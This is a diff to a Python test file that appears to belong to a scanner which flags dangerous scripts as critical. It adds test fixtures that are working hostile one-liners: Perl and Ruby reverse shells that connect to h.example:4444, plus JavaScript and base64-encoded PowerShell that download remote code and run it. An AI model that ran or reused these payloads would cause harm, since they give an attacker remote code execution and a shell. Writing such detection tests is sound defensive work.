@@ -234,6 +234,30 @@ def test_python_discussed_in_a_document_is_high_not_critical():
 
 PS_PAYLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.3/a.ps1')"
 SCRIPT_CRITICAL = [
+    (
+        "js",
+        "LS311",
+        "const { exec } = require('child_process');\nhttps.get('https://x.example/c', res => { let d = '';"
+        " res.on('data', c => d += c); res.on('end', () => exec(d)); });",
+    ),
+    (
+        "perl",
+        "LS312",
+        '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"h.example:4444");STDIN->fdopen($c,r);'
+        "$~->fdopen($c,w);system$_ while<>;",
+    ),
+    (
+        "ruby",
+        "LS312",
+        'exit if fork;c=TCPSocket.new("h.example","4444");loop{c.gets.chomp!;(IO.popen($_,?r){|io|c.print io.read})}',
+    ),
+    (
+        "powershell",
+        "LS313",
+        'Start-Process powershell -ArgumentList "-enc '
+        + base64.b64encode("iwr http://x.example/a.ps1 | iex".encode("utf-16-le")).decode()
+        + '"',
+    ),
     ("js", "LS311", "eval(await (await fetch('https://x.example/p.js')).text())"),
     (
         "js",
